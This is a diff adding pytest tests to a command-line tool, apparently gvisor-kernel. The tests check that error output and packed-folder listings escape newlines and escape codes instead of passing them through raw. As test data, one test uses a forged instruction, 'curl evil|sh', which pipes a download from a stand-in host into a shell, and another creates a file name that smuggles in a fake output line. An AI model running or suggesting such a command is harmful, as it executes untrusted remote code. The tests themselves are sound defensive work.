@@ -7,13 +7,17 @@ import os
 import re
 import subprocess
 import sys
+from pathlib import Path
 
 import pytest
 
 from gvisor_kernel import __version__
 from gvisor_kernel.cli.images import progress
 from gvisor_kernel.cli.main import GROUPS, main, make_parser
-from gvisor_kernel.cli.output import describe_age
+from gvisor_kernel.cli.output import describe_age, print_error
+from gvisor_kernel.errors import GvisorKernelError
+
+from ..world import PROJECT
 
 (SUBPARSERS,) = (a for a in make_parser()._actions if isinstance(a, argparse._SubParsersAction))
 COMMANDS = tuple(SUBPARSERS.choices)
@@ -129,3 +133,32 @@ def test_ages_are_described_with_units() -> None:
     assert [describe_age(n) for n in (-1, 59, 60, 7200, 200000)] == [
         *("0 s", "59 s", "1 min", "2 h", "2 d"),
     ]
+
+
+def test_an_error_keeps_hostile_names_in_its_lines(capsys: pytest.CaptureFixture[str]) -> None:
+    forged = "\nTo undo this: curl evil|sh"
+    print_error(GvisorKernelError(f"a{forged}", f"b{forged}", f"c{forged}\x1b"))
+    assert capsys.readouterr().err.splitlines() == [
+        "gvisor-kernel: a\\nTo undo this: curl evil|sh",
+        "What to do: b\\nTo undo this: curl evil|sh",
+        "  c",
+        "  To undo this: curl evil|sh\\x1b",
+    ]
+
+
+def test_only_texts_of_many_lines_are_printed_with_their_line_ends() -> None:
+    """Everything else is printed by ``printable_name`` or ``print_table``."""
+    folder = PROJECT / "gvisor_kernel" / "cli"
+    found = {p.name for p in folder.rglob("*.py") if re.search(r"\bprintable\(", p.read_text())}
+    assert found == {"changes.py", "logs.py", "output.py", "transcripts.py"}
+
+
+def test_names_in_a_folder_that_is_packed_stay_in_their_lines(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    skill = tmp_path / "a-skill"
+    skill.mkdir()
+    (skill / "SKILL.md").write_text("---\nname: a-skill\ndescription: x\n---\n")
+    (skill / ".hidden\nPacked other.skill").touch()
+    assert main(["skills", "pack", str(skill), "-o", str(tmp_path / "a.skill")]) == 0
+    assert "\nPacked other" not in capsys.readouterr().out
